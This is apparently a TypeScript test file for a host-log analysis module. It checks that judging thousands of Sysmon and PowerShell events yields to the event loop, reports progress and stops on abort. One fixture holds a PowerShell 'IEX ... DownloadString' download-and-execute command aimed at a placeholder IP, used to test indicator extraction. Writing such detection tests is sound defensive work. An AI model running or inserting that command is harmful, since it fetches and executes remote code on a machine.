/** Many processes are judged in slices: the link has its turn meanwhile, and an abort is heard. */
import { expect, test } from 'vitest';
import { assessHosts, createHostWatch } from '../../../analysis/endpoint/index.ts';
import { normalizeEvent } from '../../../analysis/events/index.ts';

test('whoever shares the process has many turns while many processes are judged, and hears how far it is', async () => {
  let turns = 0;
  let is_judged = false;
  const told: number[] = [];
  const beat = () => {
    turns += 1;
    if (!is_judged) setImmediate(beat);
  };
  setImmediate(beat);
  const { result } = await assessHosts(watchOf(6_000, 'x'.repeat(300)), SEEN, {
    onProgress: (judged) => told.push(judged),
  });
  is_judged = true;
  expect(result.verdict).toBe('benign');
  // 6,000 processes of some 300 characters: 3 MB, so a turn at least for each 100 KB.
  expect(turns).toBeGreaterThan(30);
  expect(told).toEqual([5_000]);
});

test('what is unwrapped from a command counts as read: one that hides much gives way as well', async () => {
  const hidden = Buffer.from(`write-host ${'a '.repeat(9_000)}`, 'utf16le').toString('base64');
  let turns = 0;
  let is_judged = false;
  const beat = () => {
    turns += 1;
    if (!is_judged) setImmediate(beat);
  };
  setImmediate(beat);
  await assessHosts(watchOf(12, `powershell -enc ${hidden}`), SEEN);
  is_judged = true;
  expect(turns).toBeGreaterThan(10);
});

test('one long block of a script gives way between its lines', async () => {
  const watch = createHostWatch();
  const line = `write-host "${'x'.repeat(200)}"\n`;
  const block = {
    Channel: 'Microsoft-Windows-PowerShell/Operational',
    EventID: 4104,
    Hostname: 'WS-042',
    ScriptBlockId: 'b',
    MessageNumber: 1,
    MessageTotal: 1,
    ScriptBlockText: line.repeat(1_000),
  };
  const event = normalizeEvent(block, 'line 1');
  if (event) watch.note(event);
  let turns = 0;
  let is_judged = false;
  const beat = () => {
    turns += 1;
    if (!is_judged) setImmediate(beat);
  };
  setImmediate(beat);
  await assessHosts(watch, SEEN);
  is_judged = true;
  expect(turns).toBeGreaterThan(3);
});

test('what grave commands speak to is read in slices as well, and each command once', async () => {
  const grave = (index: number) =>
    `powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a') ${index} ${'x'.repeat(4_000)}`;
  const turnsAfterJudging = async (commandOf: (index: number) => string) => {
    let turns = 0;
    let is_judged = false;
    const beat = () => {
      turns += 1;
      if (!is_judged) setImmediate(beat);
    };
    setImmediate(beat);
    const starts = watchOf(5_001, '', (index) => (index < 400 ? commandOf(index) : 'example.exe'));
    const { result } = await assessHosts(starts, SEEN, { onProgress: () => (turns = 0) });
    is_judged = true;
    expect(result.iocs).toEqual([
      { type: 'ip', value: '203.0.113.9' },
      { type: 'url', value: 'http://203.0.113.9/a' },
    ]);
    return turns;
  };
  // 400 commands of some 4,000 characters: 1.6 MB.
  const one = await turnsAfterJudging(() => grave(0));
  expect(await turnsAfterJudging(grave)).toBeGreaterThan(one + 20);
}, 60_000);

test('an abort is heard between two slices', async () => {
  const stop = new AbortController();
  const judging = assessHosts(watchOf(6_000, 'x'.repeat(300)), SEEN, { signal: stop.signal });
  setImmediate(() => stop.abort(new Error('enough')));
  await expect(judging).rejects.toThrow('enough');
});

function watchOf(starts: number, tail: string, commandOf = (index: number) => `example.exe --id=${index} ${tail}`) {
  const watch = createHostWatch();
  for (let index = 0; index < starts; index += 1) {
    const raw = {
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: 1,
      Hostname: 'WS-042',
      UtcTime: '2026-11-24 09:12:01.100',
      ProcessGuid: `{${index}}`,
      Image: 'C:\\Program Files\\Example\\example.exe',
      CommandLine: commandOf(index),
    };
    const event = normalizeEvent(raw, `line ${index + 1}`);
    if (event) watch.note(event);
  }
  return watch;
}

const SEEN = {
  source: 'events',
  checked: { question: '?', corpus: { sha256: '0'.repeat(64), items: 1, items_read: 1 } },
  not_checked: [],
  data_versions: {},
};
